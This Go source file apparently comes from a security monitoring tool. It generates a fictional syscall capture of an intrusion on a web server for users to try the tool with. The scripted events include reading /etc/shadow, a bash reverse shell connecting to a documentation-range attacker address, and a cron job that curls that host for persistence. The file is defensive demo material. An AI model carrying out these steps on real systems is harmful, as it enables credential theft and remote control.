// Package samplecapture writes the capture that is shipped to try Lanner with: a
// story of an intrusion, made up event by event. No machine was recorded.
package samplecapture

import (
	"errors"
	"io"
	"net/netip"
	"time"

	"github.com/lannersec/lanner/identity/process"
	"github.com/lannersec/lanner/identity/user"
	"github.com/lannersec/lanner/internal/inject"
	"github.com/lannersec/lanner/source/scap"
	"github.com/lannersec/lanner/source/syscall"
)

// The story's processes and places. The addresses are reserved for documents.
const (
	initPID, nginxPID, shellPID, catPID, bashPID = 1, 700, 900, 901, 902

	nginxUID = 33
	atFDCWD  = -100
	nofile   = 1024

	readOnly     = 1
	writeCreated = 1<<1 | 1<<2 | 1<<14
)

var (
	here     = netip.MustParseAddrPort("192.0.2.10:51234")
	attacker = netip.MustParseAddrPort("198.51.100.7:4444")
	begin    = time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
)

// story is a capture being written.
type story struct {
	w    *scap.Writer
	time uint64
	err  error // the first
}

// Write writes the capture.
func Write(out io.Writer) error {
	w, err := scap.NewWriter(out)
	if err != nil {
		return err
	}
	s := &story{w: w, time: uint64(begin.UnixNano())}
	s.err = errors.Join(
		w.Machine(scap.Machine{CPUs: 2, Memory: 4 << 30, MaxPID: 4194304, Hostname: "shop-1", BootTime: s.time - uint64(time.Hour)}),
		w.Users([]user.User{
			{UID: 0, GID: 0, Name: "root", Home: "/root", Shell: "/bin/bash"},
			{UID: nginxUID, GID: nginxUID, Name: "www-data", Home: "/var/www", Shell: "/usr/sbin/nologin"},
		}, []user.Group{{GID: 0, Name: "root"}, {GID: nginxUID, Name: "www-data"}}),
		w.Threads(processes()))
	s.tell()
	return s.err
}

// processes are those that run when the story begins.
func processes() *process.Table {
	table := process.NewTable(process.Options{})
	for _, p := range []struct {
		pid, parent int64
		comm, path  string
		uid         uint32
	}{
		{initPID, 0, "systemd", "/usr/lib/systemd/systemd", 0},
		{nginxPID, initPID, "nginx", "/usr/sbin/nginx", nginxUID},
	} {
		th := process.NewThread(p.pid)
		th.PID, th.PTID, th.VTID, th.VPID = p.pid, p.parent, p.pid, p.pid
		th.SID, th.PGID, th.VPGID = p.pid, p.pid, p.pid
		th.Comm, th.Exe, th.ExePath, th.UID, th.GID = p.comm, p.path, p.path, p.uid, p.uid
		th.FDLimit = nofile
		th.SetCwd("/")
		th.SetRoot("/")
		table.Add(th)
	}
	return table
}

// tell tells the story: a hole in the web server gives a shell, which reads the
// password file, calls the attacker, and stays by a scheduled task.
func (s *story) tell() {
	s.start(nginxPID, shellPID, "sh", "/usr/bin/dash", "-c", "cat /etc/shadow")
	s.start(shellPID, catPID, "cat", "/usr/bin/cat", "/etc/shadow")
	s.event(catPID, syscall.EvOpenatX, 3, atFDCWD, "/etc/shadow", readOnly, 0, 0x801, 131090)
	s.event(catPID, syscall.EvReadX, 64, []byte("root:*:20000:0:99999:7:::\n"), 3, 131072)
	s.event(catPID, syscall.EvCloseX, 0, 3)
	s.exit(catPID)
	s.start(shellPID, bashPID, "bash", "/usr/bin/bash", "-i")
	s.event(bashPID, syscall.EvSocketX, 3, 2, 1, 0, 0)
	s.event(bashPID, syscall.EvConnectX, 0, inject.Tuple(here, attacker), 3, inject.Addr(attacker))
	for fd := range 3 {
		s.event(bashPID, syscall.EvDup2X, fd, 3, fd)
	}
	s.event(bashPID, syscall.EvOpenatX, 4, atFDCWD, "/etc/cron.d/update", writeCreated, 0o644, 0x801, 131999)
	s.event(bashPID, syscall.EvWriteX, 40, []byte("* * * * * root curl http://198.51.100.7/"), 4, 40)
	s.event(bashPID, syscall.EvCloseX, 0, 4)
	s.exit(bashPID)
	s.exit(shellPID)
}

// event is one event of a thread, 20 ms after the last.
func (s *story) event(tid int64, num uint16, values ...any) {
	if s.err != nil {
		return
	}
	s.time += uint64(20 * time.Millisecond)
	rec, err := inject.Encode(s.time, tid, num, values...)
	var e syscall.Event
	if err == nil {
		err = e.Decode(rec, syscall.FormCounted)
	}
	if err == nil {
		err = s.w.Event(&e)
	}
	s.err = err
}

// start is a program that a process starts, from its fork to its exec.
func (s *story) start(parent, pid int, comm, path string, args ...string) {
	s.event(int64(pid), syscall.EvCloneX, 0, comm, nil, pid, pid, parent, "/", nofile, 0, 0, 0, 0, 0, comm, nil,
		0, nginxUID, nginxUID, pid, pid, 0)
	s.event(int64(pid), syscall.EvExecveX, 0, comm, inject.List(args...), pid, pid, parent, "/", nofile, 0, 0, 0, 0, 0, comm, nil, nil,
		0, nginxPID, -1, 0, 0, 0, 0, 1000+pid, 0, 0, nginxUID, path, nginxPID, nginxUID, path)
}

func (s *story) exit(tid int64) { s.event(tid, syscall.EvProcexitE, 0, 0, 0, 0, initPID) }
